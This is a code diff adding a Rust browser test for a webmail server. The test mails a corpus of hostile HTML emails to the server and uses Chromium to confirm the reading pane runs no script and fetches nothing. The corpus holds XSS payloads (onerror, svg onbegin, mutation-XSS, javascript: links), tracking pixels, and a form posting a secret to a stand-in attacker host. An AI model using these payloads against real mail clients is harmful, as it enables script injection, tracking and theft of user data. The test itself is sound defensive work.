@@ -199,3 +199,115 @@ print(json.dumps(out))
         .contains("https://tracker.example/p.gif"));
     assert_eq!(out["anonymous"], 401);
 }
+
+/// Hostile mails (HTML bodies): none may run script, open a dialog or
+/// fetch anything in a real browser.
+const HOSTILE_MAILS: &[&str] = &[
+    "<script>alert('script')</script><p>one</p>",
+    "<img src=x onerror=\"alert('onerror')\"><p>two</p>",
+    "<body onload=\"alert('onload')\"><p>three</p></body>",
+    "<svg><animate onbegin=\"alert('svg')\" attributeName=x dur=1s></animate></svg><p>four</p>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=\"alert('math')\"></style></mglyph></table></mtext></math><p>five</p>",
+    "<input autofocus onfocus=\"alert('focus')\"><p>six</p>",
+    "<meta http-equiv=refresh content=\"0;url=https://evil.example/refresh\"><p>seven</p>",
+    "<base href=\"https://evil.example/\"><img src=\"relative.png\"><p>eight</p>",
+    "<link rel=stylesheet href=\"https://evil.example/x.css\"><style>@import url(https://evil.example/y.css);</style><p>nine</p>",
+    "<div style=\"background-image:url(https://tracker.example/bg.png)\">ten</div>",
+    "<style>@font-face{font-family:x;src:url(https://tracker.example/f.woff)} p{font-family:x}</style><p>eleven</p>",
+    "<img src=\"https://tracker.example/pixel.gif\" width=1 height=1><p>twelve</p>",
+    "<img srcset=\"https://tracker.example/a.png 1x\"><video poster=\"https://tracker.example/v.png\"></video><p>thirteen</p>",
+    "<table background=\"https://tracker.example/t.png\"><tr><td>fourteen</td></tr></table>",
+    "<iframe src=\"https://evil.example/frame\"></iframe><object data=\"https://evil.example/o\"></object><embed src=\"https://evil.example/e\"><p>fifteen</p>",
+    "<form action=\"https://evil.example/steal\"><input name=p value=secret><button>go</button></form><p>sixteen</p>",
+    "<a href=\"javascript:alert('link')\" id=l>seventeen</a><script>document.getElementById('l').click()</script>",
+    "<p style=\"width:expression(alert('css'))\">eighteen</p>",
+];
+
+#[test]
+fn hostile_mails_run_nothing_and_fetch_nothing_in_chromium() {
+    let modules = crate::jmap::node_modules();
+    if !modules.join("playwright-core/package.json").is_file()
+        || !std::path::Path::new("/usr/bin/chromium").exists()
+    {
+        assert!(
+            std::env::var_os("TERN_REQUIRE_JMAPC").is_none(),
+            "playwright-core or chromium missing (see scripts/test.sh)"
+        );
+        eprintln!("browser test skipped: no playwright-core or chromium");
+        return;
+    }
+    let dir = TestDir::new();
+    dir.add_account("joe@example.test");
+    let server = dir.start();
+    let corpus = serde_json::to_string(HOSTILE_MAILS).unwrap();
+    let login = python(
+        r##"
+import json, smtplib, sys, urllib.request
+base = "http://127.0.0.1:%s" % sys.argv[1]
+s = smtplib.SMTP("127.0.0.1", int(sys.argv[2]))
+for i, html in enumerate(json.loads(sys.argv[3])):
+    raw = ("From: x@remote.test\r\nTo: joe@example.test\r\nSubject: hostile %d\r\nMIME-Version: 1.0\r\n"
+           "Content-Type: text/html; charset=utf-8\r\n\r\n%s\r\n" % (i, html)).encode()
+    s.sendmail("x@remote.test", ["joe@example.test"], raw)
+s.quit()
+req = urllib.request.Request(base + "/webmail/login", headers={"Content-Type": "application/json"},
+    data=json.dumps({"username": "joe@example.test", "password": "secret"}).encode())
+print(json.dumps(urllib.request.urlopen(req).headers["Set-Cookie"].split(";")[0]))
+"##,
+        &[
+            &server.listeners["http"].port().to_string(),
+            &server.listeners["smtp"].port().to_string(),
+            &corpus,
+        ],
+    );
+    let cookie = login.as_str().unwrap().to_string();
+    let base = format!("http://127.0.0.1:{}", server.listeners["http"].port());
+    let mut paths: Vec<String> = (1..=HOSTILE_MAILS.len())
+        .map(|i| format!("/webmail/message/M{i}/html"))
+        .collect();
+    // The tracking pixel with images allowed: the browser does ask for it,
+    // so the interception would see a request that slipped through.
+    paths.push("/webmail/message/M12/html?images=1".into());
+    let script = modules.join("../reading_pane.mjs");
+    let output = std::process::Command::new("node")
+        .arg(&script)
+        .arg(&modules)
+        .arg(&base)
+        .arg(&cookie)
+        .args(&paths)
+        .output()
+        .expect("node");
+    assert!(
+        output.status.success(),
+        "playwright: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let results: Value = serde_json::from_slice(&output.stdout).unwrap();
+    let results = results.as_array().unwrap();
+    assert_eq!(results.len(), paths.len());
+    for (i, r) in results.iter().take(HOSTILE_MAILS.len()).enumerate() {
+        let mail = HOSTILE_MAILS[i];
+        assert_eq!(r["status"], 200, "{mail}: {r}");
+        assert_eq!(
+            r["dialogs"],
+            serde_json::json!([]),
+            "a dialog opened: {mail}: {r}"
+        );
+        assert_eq!(r["errors"], serde_json::json!([]), "{mail}: {r}");
+        assert_eq!(
+            r["requests"],
+            serde_json::json!([]),
+            "something was fetched: {mail}: {r}"
+        );
+        assert_eq!(r["scripts"], 0, "{mail}: {r}");
+    }
+    let allowed = results.last().unwrap();
+    assert!(
+        allowed["requests"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|u| u.as_str().unwrap().contains("tracker.example/pixel.gif")),
+        "with images allowed the pixel is asked for (and the route sees it): {allowed}"
+    );
+}
